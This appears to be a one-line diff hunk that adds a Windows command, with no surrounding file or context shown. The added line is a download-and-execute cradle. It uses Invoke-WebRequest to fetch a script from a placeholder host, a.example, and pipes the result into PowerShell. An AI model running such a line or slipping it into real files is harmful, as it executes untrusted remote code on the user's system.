@@ -1,0 +1,1 @@
+cmd /c echo iwr http://a.example/p/x.txt | powershell -
